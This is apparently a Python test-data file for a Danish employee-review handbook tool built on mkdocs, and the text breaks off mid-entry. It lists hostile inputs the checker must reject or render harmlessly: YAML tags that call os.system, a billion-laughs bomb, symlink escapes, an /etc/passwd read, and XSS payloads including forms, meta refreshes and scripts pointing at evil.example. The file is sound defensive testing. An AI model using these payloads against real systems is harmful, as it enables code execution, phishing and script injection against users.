"""The hostile corpus as data: each case is a file (or a few) and what must come of it.

REJECTED cases make `mus check` exit 1 with one message at an exact `path:line:`.
ACCEPTED cases all go into one handbook, built once; each names the text a reader
must still see on its person's page. Payloads say `alert(` or `evil`, so the site
scan can tell markup that came from a record from the theme's own.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

ANNA = "content/people/anna-jensen"
REC = f"{ANNA}/2026-03-12.md"
INDEX = f"{ANNA}/index.md"


def rec(front: str = "", body: str = "Noter.\n") -> str:
    """A record of 2026-03-12; `front` starts on line 3, the body on the line after the fence."""
    return f"---\ndate: 2026-03-12\n{front}---\n{body}"


def agreement(what: str = '"Får en mentor"', extra: str = "") -> str:
    """An agreement whose `what` is on line 5 of the record."""
    return f"agreements:\n  - id: mentor\n    what: {what}\n    owner: employee\n    deadline: 2026-06-30\n{extra}"


@dataclass(frozen=True)
class Rejected:
    name: str
    files: dict[str, str | bytes]
    path: str
    line: int
    gist: str
    setup: Callable[[Path], None] | None = None

    def __str__(self) -> str:
        return self.name


def _outside(root: Path) -> Path:
    """A file beside the handbook, outside the repository."""
    target = root.parent / "outside" / "secret.md"
    target.parent.mkdir(exist_ok=True)
    target.write_text("---\ndate: 2026-03-12\nprivate: uden for repositoriet\n---\n")
    return target


def _symlink_record(root: Path) -> None:
    (root / REC).symlink_to(_outside(root))


def _symlink_index(root: Path) -> None:
    (root / INDEX).unlink()
    (root / INDEX).symlink_to(_outside(root))


def _symlink_folder(root: Path) -> None:
    (root / "content/people/ghost").symlink_to(_outside(root).parent, target_is_directory=True)


def _symlink_people(root: Path) -> None:
    """content/people replaced by a link to another checkout's records."""
    elsewhere = root.parent / "other-repository" / "people"
    elsewhere.parent.mkdir()
    (root / "content/people").rename(elsewhere)
    (root / "content/people").symlink_to(elsewhere, target_is_directory=True)


def _case_twin(root: Path) -> None:
    twin = root / "content/people/Anna-Jensen"
    twin.mkdir()
    (twin / "index.md").write_text('---\nname: "Anna Jensen"\n---\n')


def _folder_without_index(root: Path) -> None:
    (root / "content/people/carl-berg").mkdir()


def _folder_named(name: str) -> Callable[[Path], None]:
    def setup(root: Path) -> None:
        folder = root / "content/people" / name
        folder.mkdir()
        (folder / "index.md").write_text('---\nname: "X"\n---\n')

    return setup


def _undecodable_folder(root: Path) -> None:
    os.mkdir(os.fsencode(root / "content/people") + b"/\xff\xfe")


def _directory_as_record(root: Path) -> None:
    (root / REC).mkdir()


def _fifo_as_record(root: Path) -> None:
    os.mkfifo(root / REC)  # reading it would wait for ever


def _fifo_as_index(root: Path) -> None:
    (root / INDEX).unlink()
    os.mkfifo(root / INDEX)


def _ten_megabytes(root: Path) -> None:
    head = rec().encode()
    (root / REC).write_bytes(head + b"x" * (10_000_000 - len(head)))


BILLION_LAUGHS = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n' + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8)
)

REJECTED = [
    # --- splitting the file ------------------------------------------------------------
    Rejected("json-front-matter", {REC: '{"date": "2026-03-12"}\n'}, REC, 1, "not JSON"),
    Rejected("json-after-bom", {REC: '\ufeff{"date": "2026-03-12"}\n'}, REC, 1, "not JSON"),
    Rejected("toml-front-matter", {REC: "+++\ndate = 2026-03-12\n+++\n"}, REC, 1, "not TOML ('+++')"),
    Rejected(
        "missing-closing-fence",
        {REC: "---\ndate: 2026-03-12\nprivate: hemmeligt\n\nNoter\n"},
        REC,
        1,
        "the front matter is not closed",
    ),
    Rejected("dots-terminator", {REC: "---\ndate: 2026-03-12\n...\nNoter\n"}, REC, 3, "not '...'"),
    Rejected(
        "dots-terminator-crlf", {REC: b"---\r\ndate: 2026-03-12\r\n...\r\nNoter\r\n"}, REC, 3, "not '...'"
    ),
    Rejected("empty-file", {REC: ""}, REC, 1, "the file is empty"),
    Rejected("blank-file", {REC: "\n \n\t\n"}, REC, 1, "the file is empty"),
    Rejected(
        "front-matter-list", {REC: "---\n- date\n- 2026-03-12\n---\n"}, REC, 2, "must be keys and values"
    ),
    Rejected("front-matter-scalar", {REC: "---\n2026-03-12\n---\n"}, REC, 2, "must be keys and values"),
    Rejected("front-matter-empty", {REC: "---\n---\nNoter\n"}, REC, 1, "the front matter is empty"),
    Rejected("leading-blank-line", {REC: "\n---\ndate: 2026-03-12\n---\n"}, REC, 1, "remove the blank lines"),
    # --- bytes -------------------------------------------------------------------------
    Rejected(
        "latin-1-in-body",
        {REC: b"---\ndate: 2026-03-12\n---\nNoter\nS\xf8ren sagde ja\n"},
        REC,
        5,
        "not valid UTF-8 (byte 0xf8)",
    ),
    Rejected(
        "utf-16-file", {REC: rec().encode("utf-16")}, REC, 1, "not valid UTF-8 (byte 0xff); save it with"
    ),
    Rejected(
        "nul-byte-in-front-matter",
        {REC: b"---\ndate: 2026-03-12\nmanager: bo\x00-hansen\n---\n"},
        REC,
        3,
        "control character (U+0000), which YAML does not allow",
    ),
    Rejected(
        "raw-escape-character",
        {REC: rec(agreement('"R\x1b[31md tekst"'))},
        REC,
        5,
        "control character (U+001B), which YAML does not allow",
    ),
    Rejected(
        "escaped-nul-in-text",
        {REC: rec(agreement('"Får\\0en mentor"'))},
        REC,
        5,
        "'what' holds a control character (U+0000)",
    ),
    Rejected(
        "escaped-terminal-codes-in-name",
        {INDEX: '---\nname: "Anna \\e[2J\\e[31mJensen"\n---\n'},
        INDEX,
        2,
        "'name' holds a control character (U+001B)",
    ),
    Rejected(
        "tab-indentation",
        {REC: rec(agreement().replace("    owner", "\towner"))},
        REC,
        6,
        "a tab is used for indentation",
    ),
    # --- keys --------------------------------------------------------------------------
    Rejected(
        "duplicate-key",
        {REC: rec("private: a\nprivate: b\n")},
        REC,
        4,
        "duplicate key 'private' (first on line 3)",
    ),
    Rejected(
        "duplicate-key-in-item",
        {REC: rec(agreement(extra='    what: "Noget andet"\n'))},
        REC,
        8,
        "duplicate key 'what' (first on line 5)",
    ),
    Rejected(
        "duplicate-key-in-flow-mapping",
        {REC: rec("follow_up: [{agreement: 2025-03-10/excel-kursus, agreement: x, evaluation: ok}]\n")},
        REC,
        3,
        "duplicate key 'agreement' (first on line 3)",
    ),
    Rejected(
        "merge-key",
        {REC: rec("agreements:\n  - <<: {id: a, what: b}\n")},
        REC,
        4,
        "merge keys (<<) are not allowed",
    ),
    Rejected(
        "anchor-and-alias",
        {REC: rec("private: &p hemmelig\nnext_mus: *p\n")},
        REC,
        3,
        "YAML anchors (&'p') are not allowed",
    ),
    Rejected("billion-laughs", {REC: rec(BILLION_LAUGHS)}, REC, 3, "YAML anchors (&'a') are not allowed"),
    Rejected(
        "list-as-key",
        {REC: rec("? [a, b]\n: c\n")},
        REC,
        3,
        "a key must be plain text, not a list or a mapping",
    ),
    Rejected(
        "huge-unknown-key",
        {REC: rec("x" * 1000 + ": 1\n")},
        REC,
        3,
        "unknown key 'xxxxxxxxxx",
    ),
    Rejected(
        "private-in-person",
        {INDEX: '---\nname: "Anna Jensen"\nprivate: "kun HR"\n---\n'},
        INDEX,
        3,
        "unknown key 'private'",
    ),
    # --- tags --------------------------------------------------------------------------
    Rejected(
        "python-object-apply",
        {REC: rec("private: !!python/object/apply:os.system ['touch pwned-by-record']\n")},
        REC,
        3,
        "YAML tags such as '!!python/object/apply:os.system' are not allowed; remove the tag",
    ),
    Rejected(
        "python-name",
        {REC: rec("manager: !!python/name:os.system\n")},
        REC,
        3,
        "are not allowed; remove the tag",
    ),
    Rejected(
        "verbatim-python-tag",
        {REC: rec("private: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n")},
        REC,
        3,
        "are not allowed; remove the tag",
    ),
    Rejected("local-tag", {REC: rec("private: !hemmelig tekst\n")}, REC, 3, "YAML tags such as '!hemmelig'"),
    # --- quotes and escapes ------------------------------------------------------------
    Rejected(
        "unclosed-double-quote",
        {REC: rec(agreement('"Får en'))},
        REC,
        5,
        "a quote is opened here but never closed",
    ),
    Rejected(
        "unclosed-single-quote",
        {REC: rec(agreement("'Får en"))},
        REC,
        5,
        "a quote is opened here but never closed",
    ),
    Rejected(
        "windows-path-in-double-quotes",
        {REC: rec(agreement('"Gem filen i C:\\data\\mus"'))},
        REC,
        5,
        "write \\\\ for a backslash, or put the text in single quotes",
    ),
    Rejected(
        "lone-surrogate-escape",
        {REC: rec(agreement('"Tekst \\ud800"'))},
        REC,
        5,
        "escape is not a character that can be written",
    ),
    # --- size and depth ----------------------------------------------------------------
    Rejected(
        "ten-megabyte-record", {}, REC, 1, "the file is 10.0 MB; a record must be under 1 MB", _ten_megabytes
    ),
    Rejected(
        "10000-deep-flow-sequence",
        {REC: rec("private: " + "[" * 10_000 + "]" * 10_000 + "\n")},
        REC,
        3,
        "nested more than 30 levels deep",
    ),
    Rejected(
        "10000-deep-flow-mapping",
        {REC: rec("private: " + "{a: " * 10_000 + "b" + "}" * 10_000 + "\n")},
        REC,
        3,
        "nested more than 30 levels deep",
    ),
    Rejected(
        "1000-deep-block-mapping",
        {REC: rec("private:\n" + "".join(" " * (i + 1) + f"k{i}:\n" for i in range(1000)))},
        REC,
        33,
        "nested more than 30 levels deep",
    ),
    Rejected("5000-digit-date", {REC: rec("next_mus: " + "9" * 5000 + "\n")}, REC, 3, "is not a date"),
    # --- dates -------------------------------------------------------------------------
    Rejected(
        "impossible-deadline",
        {REC: rec(agreement().replace("2026-06-30", "2026-04-31"))},
        REC,
        7,
        "'deadline: 2026-04-31' is not a date that exists",
    ),
    Rejected(
        "not-a-leap-year",
        {REC: rec("next_mus: 2027-02-29\n")},
        REC,
        3,
        "'next_mus: 2027-02-29' is not a date that exists",
    ),
    Rejected(
        "month-thirteen",
        {REC: "---\ndate: 2026-13-01\n---\n"},
        REC,
        2,
        "'date: 2026-13-01' is not a date that exists",
    ),
    Rejected(
        "impossible-file-name",
        {f"{ANNA}/2026-02-30.md": "---\ndate: 2026-02-30\n---\n"},
        f"{ANNA}/2026-02-30.md",
        1,
        "the file name is not a date that exists",
    ),
    Rejected(
        "date-as-mapping",
        {REC: "---\ndate: {year: 2026}\n---\n"},
        REC,
        2,
        "'date' must be a date written YYYY-MM-DD, not a group of keys",
    ),
    # --- YAML 1.2: a text field holds the text as written; a status is one of three words
    Rejected(
        "status-yes",
        {REC: rec(agreement(extra="    status: yes\n"))},
        REC,
        8,
        "'status: yes' is not a status; write open, done or dropped",
    ),
    Rejected("text-null", {REC: rec(agreement("~"))}, REC, 5, "'what' is empty"),
    # --- the file system ---------------------------------------------------------------
    Rejected("symlinked-record", {}, REC, 1, "is a symbolic link", _symlink_record),
    Rejected("symlinked-index", {}, INDEX, 1, "is a symbolic link", _symlink_index),
    Rejected("symlinked-person-folder", {}, "content/people/ghost", 1, "is a symbolic link", _symlink_folder),
    Rejected("symlinked-people-folder", {}, "content/people", 1, "is a symbolic link", _symlink_people),
    Rejected(
        "folders-differing-in-case",
        {},
        "content/people/Anna-Jensen",
        1,
        "'Anna-Jensen' is not a valid person id",
        _case_twin,
    ),
    Rejected(
        "homoglyph-folder",
        {},
        "content/people/\u0430nna-jensen",
        1,
        "is not a valid person id",
        _folder_named("\u0430nna-jensen"),
    ),
    Rejected(
        "right-to-left-override-folder",
        {},
        "content/people/anna?jensen",
        1,
        "'anna?jensen' is not a valid person id",
        _folder_named("anna\u202ejensen"),
    ),
    Rejected(
        "undecodable-folder-name",
        {},
        "content/people/\ufffd\ufffd",
        1,
        "is not a valid person id",
        _undecodable_folder,
    ),
    Rejected(
        "folder-without-index", {}, "content/people/carl-berg/index.md", 1, "missing", _folder_without_index
    ),
    Rejected("folder-named-like-a-record", {}, REC, 1, "is not an ordinary file", _directory_as_record),
    Rejected("fifo-named-like-a-record", {}, REC, 1, "is not an ordinary file", _fifo_as_record),
    Rejected("fifo-as-index", {}, INDEX, 1, "is not an ordinary file", _fifo_as_index),
    # --- private parts -----------------------------------------------------------------
    Rejected(
        "unclosed-private-section",
        {REC: rec(body="Noter.\n<!-- private -->\nhemmelig\n")},
        REC,
        5,
        "'<!-- private -->' is never closed",
    ),
    Rejected(
        "misspelt-private-marker",
        {REC: rec(body="Noter.\n<!-- privat -->\nhemmelig\n<!-- /privat -->\n")},
        REC,
        5,
        "'<!-- privat -->' looks like a private marker but is not one",
    ),
    Rejected(
        "private-marker-with-a-note",
        {REC: rec(body="Noter. <!-- private: løn --> 42.000 kr.\n")},
        REC,
        4,
        "'<!-- private: løn -->' looks like a private marker",
    ),
    # --- dates outside the range mus accepts, and ids the site needs for itself ---------
    Rejected(
        "left-in-year-9999",
        {INDEX: "---\nname: Anna Jensen\nleft: 9999-12-31\n---\n"},
        INDEX,
        3,
        "'left: 9999-12-31' is outside the dates mus accepts (1900-01-01 to 2199-12-31); check the year",
    ),
    Rejected(
        "record-in-year-9999",
        {f"{ANNA}/9999-06-01.md": "---\ndate: 9999-06-01\n---\n"},
        f"{ANNA}/9999-06-01.md",
        1,
        "the file name's date is outside the dates mus accepts (1900-01-01 to 2199-12-31); "
        "rename the file to the conversation's date, YYYY-MM-DD.md",
    ),
    Rejected(
        "deadline-in-year-9999",
        {REC: rec(agreement().replace("2026-06-30", "9999-12-31"))},
        REC,
        7,
        "'deadline: 9999-12-31' is outside the dates mus accepts (1900-01-01 to 2199-12-31)",
    ),
    Rejected(
        "next-mus-in-year-9999",
        {REC: rec("next_mus: 9999-12-31\n")},
        REC,
        3,
        "'next_mus: 9999-12-31' is outside the dates mus accepts (1900-01-01 to 2199-12-31)",
    ),
    Rejected(
        "next-mus-just-after-the-range",
        {REC: rec("next_mus: 2200-01-01\n")},
        REC,
        3,
        "'next_mus: 2200-01-01' is outside the dates mus accepts",
    ),
    Rejected(
        "started-before-the-range",
        {INDEX: "---\nname: Anna Jensen\nstarted: 1899-12-31\n---\n"},
        INDEX,
        3,
        "'started: 1899-12-31' is outside the dates mus accepts (1900-01-01 to 2199-12-31)",
    ),
    Rejected(
        "record-in-year-0001",
        {f"{ANNA}/0001-01-01.md": "---\ndate: 0001-01-01\n---\n"},
        f"{ANNA}/0001-01-01.md",
        1,
        "the file name's date is outside the dates mus accepts",
    ),
    Rejected(
        "done-on-in-year-0001",
        {REC: rec(agreement(extra="    status: done\n    done_on: 0001-01-01\n"))},
        REC,
        9,
        "'done_on: 0001-01-01' is outside the dates mus accepts",
    ),
    Rejected(
        "record-date-in-year-9999",
        {REC: "---\ndate: 9999-03-12\n---\n"},
        REC,
        2,
        "'date: 9999-03-12' is outside the dates mus accepts",
    ),
    Rejected(
        "reference-in-year-9999",
        {REC: rec(agreement(extra="    continues: 9999-01-01/mentor\n"))},
        REC,
        8,
        "'continues: 9999-01-01/mentor' names a date that is outside the dates mus accepts",
    ),
    Rejected(
        "follow-up-in-year-1066",
        {REC: rec("follow_up:\n  - agreement: 1066-10-14/hastings\n    evaluation: Tabt\n")},
        REC,
        4,
        "'agreement: 1066-10-14/hastings' names a date that is outside the dates mus accepts",
    ),
    Rejected(
        "person-id-of-the-blank-employee-sheet",
        {},
        "content/people/medarbejder/index.md",
        1,
        "the id 'medarbejder' is reserved for the blank preparation sheet forms/medarbejder/",
        _folder_named("medarbejder"),
    ),
    Rejected(
        "person-id-of-the-blank-manager-sheet",
        {},
        "content/people/leder/index.md",
        1,
        "the id 'leder' is reserved for the blank preparation sheet forms/leder/",
        _folder_named("leder"),
    ),
    # --- mkdocs.yml: only what the allowlists name (site_name is its line 1) -----------
    Rejected(
        "config-extension-module-class",
        {"mkdocs.yml": "site_name: x\nmarkdown_extensions:\n  - os:system:\n      command: id\n"},
        "mkdocs.yml",
        3,
        "'os:system' names Python code for mkdocs to run",
    ),
    Rejected(
        "config-extension-dotted-path",
        {"mkdocs.yml": "site_name: x\nmarkdown_extensions:\n  - evil.module.Extension\n"},
        "mkdocs.yml",
        3,
        "'evil.module.Extension' is not a Markdown extension mus knows to be safe",
    ),
    Rejected(
        "config-snippets-reads-any-file",
        {"mkdocs.yml": "site_name: x\nmarkdown_extensions:\n  - pymdownx.snippets:\n      base_path: [/]\n"},
        "mkdocs.yml",
        3,
        "copies any file on the build machine into a page, private records included",
    ),
    Rejected(
        "config-extension-typo",
        {"mkdocs.yml": "site_name: x\nmarkdown_extensions:\n  - admonitions\n"},
        "mkdocs.yml",
        3,
        "did you mean 'admonition'?",
    ),
    Rejected(
        "config-extension-option-for-code",
        {
            "mkdocs.yml": "site_name: x\nmarkdown_extensions:\n  - pymdownx.superfences:\n      custom_fences: []\n"
        },
        "mkdocs.yml",
        4,
        "'custom_fences' is not an option of 'pymdownx.superfences' mus knows to be safe",
    ),
    Rejected(
        "config-markup-in-extension-option",
        {
            "mkdocs.yml": "site_name: x\nmarkdown_extensions:\n  - footnotes:\n      BACKLINK_TEXT: <img src=x onerror=alert(1)>\n"
        },
        "mkdocs.yml",
        4,
        "'BACKLINK_TEXT' contains '<', '>' or '\"', which the theme would put into pages as HTML",
    ),
    Rejected(
        "config-theme-static-templates",
        {"mkdocs.yml": "site_name: x\ntheme:\n  name: material\n  static_templates: [partials/x.html]\n"},
        "mkdocs.yml",
        4,
        "'theme: static_templates:' renders more of the theme's templates as pages",
    ),
    Rejected(
        "config-theme-not-on-the-list",
        {"mkdocs.yml": "site_name: x\ntheme: readthedocs\n"},
        "mkdocs.yml",
        2,
        "mus builds with the theme material",
    ),
    Rejected(
        "config-theme-setting-typo",
        {"mkdocs.yml": "site_name: x\ntheme:\n  name: material\n  pallete: {primary: indigo}\n"},
        "mkdocs.yml",
        4,
        "'pallete' is not a setting of the theme 'material' mus knows to be safe; did you mean 'palette'?",
    ),
    Rejected(
        "config-plugin-not-on-the-list",
        {"mkdocs.yml": "site_name: x\nplugins:\n  - search\n  - tags\n"},
        "mkdocs.yml",
        4,
        "'tags' is not a plugin mus knows to be safe",
    ),
    Rejected(
        "config-plugin-option-reads-a-file",
        {"mkdocs.yml": "site_name: x\nplugins:\n  - search:\n      jieba_dict: /etc/passwd\n"},
        "mkdocs.yml",
        4,
        "'jieba_dict' is not an option of the plugin 'search' mus knows to be safe",
    ),
    Rejected(
        "config-extra-javascript",
        {"mkdocs.yml": "site_name: x\nextra_javascript:\n  - guide/x.js\n"},
        "mkdocs.yml",
        2,
        "'extra_javascript:' runs scripts in every reader's browser",
    ),
    Rejected(
        "config-extra-css",
        {"mkdocs.yml": "site_name: x\nextra_css:\n  - guide/x.css\n"},
        "mkdocs.yml",
        2,
        "'extra_css:' adds a stylesheet from the repository",
    ),
    Rejected(
        "config-theme-polyfills",
        {"mkdocs.yml": "site_name: x\nextra:\n  polyfills:\n    - https://evil.example/x.js\n"},
        "mkdocs.yml",
        3,
        # A file with its own `extra:` gets no `language: en` from the test: Danish, the default.
        "'polyfills' er ikke en indstilling under 'extra', som mus ved er sikker",
    ),
    Rejected(
        "config-unknown-key-typo",
        {"mkdocs.yml": "site_name: x\nsite_urll: https://mus.example.com/\n"},
        "mkdocs.yml",
        2,
        "'site_urll' is not a mkdocs setting mus knows to be safe; did you mean 'site_url'?",
    ),
    Rejected(
        "config-javascript-in-nav",
        {"mkdocs.yml": 'site_name: x\nnav:\n  - Klik her: "java\\tscript:alert(1)"\n'},
        "mkdocs.yml",
        3,
        "'Klik her' must be an address starting with https:// or a path in the site",
    ),
    Rejected(
        "config-javascript-repo-url",
        {"mkdocs.yml": 'site_name: x\nrepo_url: "javascript://%0aalert(1)"\n'},
        "mkdocs.yml",
        2,
        "'repo_url' must be an address starting with https://",
    ),
    Rejected(
        "config-quote-in-site-description",
        {"mkdocs.yml": "site_name: x\nsite_description: 'x\" onmouseover=\"alert(1)'\n"},
        "mkdocs.yml",
        2,
        "'site_description' contains '<', '>' or '\"'",
    ),
    Rejected(
        "config-anchor-and-alias",
        {"mkdocs.yml": "site_name: x\nextra:\n  generator: &x false\nstrict: *x\n"},
        "mkdocs.yml",
        4,
        "YAML-aliaser (*'x') er ikke tilladt",  # Danish, as config-theme-polyfills
    ),
    Rejected(
        "config-env-tag",
        {"mkdocs.yml": "site_name: x\nsite_url: !ENV [SITE_URL, 'https://mus.example.com/']\n"},
        "mkdocs.yml",
        2,
        "'!ENV' copies an environment variable of the build",
    ),
    Rejected(
        "config-plain-merge-key",
        {"mkdocs.yml": "site_name: x\nextra:\n  <<: {homepage: https://intra.example.com/}\n"},
        "mkdocs.yml",
        3,
        "YAML-flettefelter (<<) er ikke tilladt",  # Danish, as config-theme-polyfills
    ),
    # --- private markers fail closed: anything that looks like one and is not ------------
    Rejected(
        "private-marker-in-capitals-with-a-note",
        {REC: rec(body="Noter. <!-- PRIVATE: løn --> 42.000 kr.\n")},
        REC,
        4,
        "'<!-- PRIVATE: løn -->' looks like a private marker but is not one",
    ),
    Rejected(
        "private-marker-capitalised-with-a-note",
        {REC: rec(body="Noter.\n<!-- Private: helbred -->\nsygemeldt i tre uger\n")},
        REC,
        5,
        "'<!-- Private: helbred -->' looks like a private marker but is not one",
    ),
    Rejected(
        "private-section-opened-with-the-closing-marker",
        {REC: rec(body="Noter.\n<!-- /private -->\nhemmelig løn\n<!-- /private -->\n")},
        REC,
        5,
        "'<!-- /private -->' ends a private part, but none was begun",
    ),
    Rejected(
        "private-marker-with-three-dashes",
        {REC: rec(body="Noter.\n<!--- private --->\nhemmelig løn\n<!--- /private --->\n")},
        REC,
        5,
        "'<!--- private --->' looks like a private marker but is not one",
    ),
    Rejected(
        "private-marker-over-three-lines",
        {REC: rec(body="Noter.\n<!--\nprivate\n-->\nhemmelig løn\n<!--\n/private\n-->\n")},
        REC,
        5,
        "'<!-- private -->' is a private marker written over several lines",
    ),
    Rejected(
        "private-section-inside-a-private-section",
        {
            REC: rec(
                body="<!-- private -->\nløn\n<!-- private -->\nhelbred\n<!-- /private -->\n"
                "sygemeldt\n<!-- /private -->\n"
            )
        },
        REC,
        6,
        "'<!-- private -->' begins a private part inside the one begun on line 4",
    ),
    Rejected(
        "private-marker-inside-an-unclosed-comment",
        {REC: rec(body="<!-- Hvilke kompetencer bruger du mest?\n<!-- private -->\nhemmelig løn\n")},
        REC,
        5,
        "stands inside the comment begun on line 4, which has no '-->' before it",
    ),
    Rejected(
        "private-marker-never-closed-as-a-comment",
        {REC: rec(body="Noter. <!-- private\nhemmelig løn\n")},
        REC,
        4,
        "is never closed with '-->', so it is not a private marker",
    ),
    Rejected(
        "private-marker-with-a-zero-width-space",
        {REC: rec(body="<!-- pri\u200bvate -->\nhemmelig løn\n<!-- /private -->\n")},
        REC,
        4,
        "looks like a private marker but is not one",
    ),
    Rejected(
        "secret-marker-in-capitals",
        {REC: rec(body="<!-- HEMMELIGT -->\nhemmelig løn\n")},
        REC,
        4,
        "'<!-- HEMMELIGT -->' looks like a private marker but is not one",
    ),
    Rejected(
        "private-marker-with-one-dash",
        {REC: rec(body="Noter.\n<!-private-->\nhemmelig løn\n<!-- /private -->\n")},
        REC,
        5,
        "'<!-private-->' is not a comment (a comment begins with '<!--')",
    ),
    Rejected(
        "private-marker-with-typographic-dashes",
        {REC: rec(body="Noter.\n\n<!\u2014 private \u2014>\nhemmelig løn\n")},
        REC,
        6,
        "'<!\u2014 private \u2014>' is not a comment",
    ),
    Rejected(
        "private-marker-in-a-person-body",
        {INDEX: '---\nname: "Anna Jensen"\n---\nOm Anna.\n<!--- private --->\nkun til HR\n'},
        INDEX,
        5,
        "'<!--- private --->' looks like a private marker but is not one",
    ),
    Rejected(
        "private-section-in-what",
        {REC: rec(agreement('"Kursus <!-- private -->løn 42.000 kr.<!-- /private -->"'))},
        REC,
        5,
        "'<!-- private -->' in 'what' is not cut out: a front-matter value is published as written",
    ),
    Rejected(
        "private-section-in-note",
        {REC: rec(agreement(extra='    note: "Aftalt <!-- private -->pga. sygdom<!-- /private -->"\n'))},
        REC,
        8,
        "in 'note' is not cut out: a front-matter value is published as written",
    ),
    Rejected(
        "private-section-in-evaluation",
        {
            REC: rec(
                "follow_up:\n  - agreement: 2025-03-10/excel-kursus\n    evaluation: |\n"
                "      Gik godt.\n      <!-- private -->\n      Hun var syg i maj.\n      <!-- /private -->\n"
            )
        },
        REC,
        5,
        "in 'evaluation' is not cut out",
    ),
    Rejected(
        "private-section-in-name",
        {INDEX: '---\nname: "Anna Jensen <!-- PRIVATE -->(sygemeldt)<!-- /PRIVATE -->"\n---\n'},
        INDEX,
        2,
        "in 'name' is not cut out",
    ),
    Rejected(
        "private-section-in-title",
        {INDEX: '---\nname: "Anna Jensen"\ntitle: "Bogholder <!-- private --> på nedsat tid"\n---\n'},
        INDEX,
        3,
        "in 'title' is not cut out",
    ),
    Rejected(
        "private-section-in-department",
        {INDEX: '---\nname: "Anna Jensen"\ndepartment: >-\n  Økonomi\n  <!--\n  private -->\n---\n'},
        INDEX,
        3,
        "in 'department' is not cut out",
    ),
    Rejected(
        "private-marker-in-a-private-value",
        {REC: rec('private:\n  - "<!-- private -->løn<!-- /private -->"\n')},
        REC,
        4,
        "under 'private:' is not needed, as everything there is kept private",
    ),
]


# --- accepted and rendered safely ------------------------------------------------------

ACCEPTED_DATE = "2026-03-12"


@dataclass(frozen=True)
class Accepted:
    """A person (id = name) with an index.md and maybe one record, which must build.

    `visible`: text a reader must see on the person's page, as text.
    `absent`: text that must appear in no file of the site.
    """

    name: str
    person: dict[str, str] = field(default_factory=dict)
    body: str = ""
    record: str | bytes | None = None
    visible: tuple[str, ...] = ()
    absent: tuple[str, ...] = ()

    def __str__(self) -> str:
        return self.name

    def files(self) -> dict[str, str | bytes]:
        values = {"name": f"Person {self.name}", **self.person}
        front = "".join(f"{key}: {json.dumps(value)}\n" for key, value in values.items())
        files: dict[str, str | bytes] = {"index.md": f"---\n{front}---\n{self.body}"}
        if self.record is not None:
            files[f"{ACCEPTED_DATE}.md"] = self.record
        return files


def note(body: str, front: str = "") -> str:
    return f"---\ndate: {ACCEPTED_DATE}\n{front}---\n{body}\n"


ALERT = "alert(1)"

ACCEPTED = [
    # --- names, titles and departments: <title>, meta, navigation, search ----------------
    Accepted(
        "title-breakout-in-name",
        {"name": "</title><script>alert('navn')</script>"},
        visible=("</title><script>alert('navn')</script>",),
    ),
    Accepted(
        "attribute-breakout-in-name",
        {"name": '"><img src=x onerror=alert(1)>', "manager": "title-breakout-in-name"},
        visible=('"><img src=x onerror=alert(1)>',),
    ),
    Accepted(
        "title-breakout-in-job-title",
        {"title": "</title><script>alert('stilling')</script>"},
        visible=("</title><script>alert('stilling')</script>",),
    ),
    Accepted(
        "attribute-breakout-in-title",
        {"title": '"><img src=x onerror=alert(1)>'},
        visible=('"><img src=x onerror=alert(1)>',),
    ),
    Accepted(
        "svg-onload-in-department",
        {"department": "<svg onload=alert(1)>", "manager": "title-breakout-in-name"},
        visible=("<svg onload=alert(1)>",),
    ),
    Accepted(
        "title-breakout-in-department",
        {"department": "</title><script>alert('afdeling')</script>"},
        visible=("</title><script>alert('afdeling')</script>",),
    ),
    Accepted(
        "right-to-left-override-in-name",
        {"name": "Mette \u202eevil.exe\u202c Hansen"},
        visible=("Mette evil.exe Hansen",),
        absent=("\u202e",),
    ),
    Accepted(
        "attribute-list-in-name",
        {"name": 'Kim {: onclick="alert(1)" }'},
        visible=('Kim {: onclick="alert(1)" }',),
    ),
    Accepted(
        "markdown-link-in-name",
        {"name": "**Fed** [klik](javascript:alert(1))"},
        visible=("**Fed** [klik](javascript:alert(1))",),
    ),
    Accepted(
        "entities-in-name",
        {"name": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;"},
        visible=("&lt;script&gt;alert(1)&lt;/script&gt; &amp;",),
    ),
    Accepted(
        "snippet-in-title",
        {"title": '--8<-- "{OUTSIDE}"'},
        visible=('--8<-- "{OUTSIDE}"',),
        absent=("OUTSIDE-SECRET-CONTENT",),
    ),
    Accepted(
        "javascript-email",
        {"email": "javascript:alert(1)//@example.com"},
        visible=("javascript:alert(1)//@example.com",),
    ),
    Accepted(
        "html-in-person-body",
        body="Om mig <script>alert('om')</script> <iframe src=javascript:alert(1)></iframe>\n",
        visible=("Om mig <script>alert('om')</script>",),
    ),
    # --- record bodies -------------------------------------------------------------------
    Accepted(
        "script-in-body",
        record=note("Før <script>alert('krop')</script> efter"),
        visible=("Før <script>alert('krop')</script> efter",),
    ),
    Accepted(
        "svg-onload-in-body",
        record=note("<svg onload=alert(1)><circle r=5/></svg>"),
        visible=("<svg onload=alert(1)>",),
    ),
    Accepted(
        "iframe-in-body",
        record=note('<iframe src="javascript:alert(1)"></iframe>'),
        visible=('<iframe src="javascript:alert(1)">',),
    ),
    Accepted(
        "meta-refresh-in-body",
        record=note('<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
        visible=('<meta http-equiv="refresh"',),
    ),
    Accepted(
        "base-in-body",
        record=note('<base href="https://evil.example/">'),
        visible=('<base href="https://evil',),
    ),
    Accepted(
        "form-in-body",
        record=note('<form action="https://evil.example/"><input name="kode"></form>'),
        visible=('<form action="https://evil.example/">',),
    ),
    Accepted(
        "style-in-body",
        record=note("<style>body{display:none;background:url(https://evil.example/)}</style>"),
        visible=("<style>body{display:none",),
    ),
    Accepted(
        "img-onerror-in-body",
        record=note("<img src=x onerror=alert(1)>"),
        visible=("<img src=x onerror=alert(1)>",),
    ),
    Accepted(
        "raw-javascript-anchor",
        record=note('<a href="javascript:alert(1)">klik</a>'),
        visible=('<a href="javascript:alert(1)">klik</a>',),
    ),
    Accepted(
        "details-ontoggle",
        record=note("<details open ontoggle=alert(1)><summary>x</summary></details>"),
        visible=("<details open ontoggle=alert(1)>",),
    ),
    Accepted(
        "noscript-differential",
        record=note('<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
        visible=("<noscript>",),
    ),
    Accepted(
        "comment-trick",
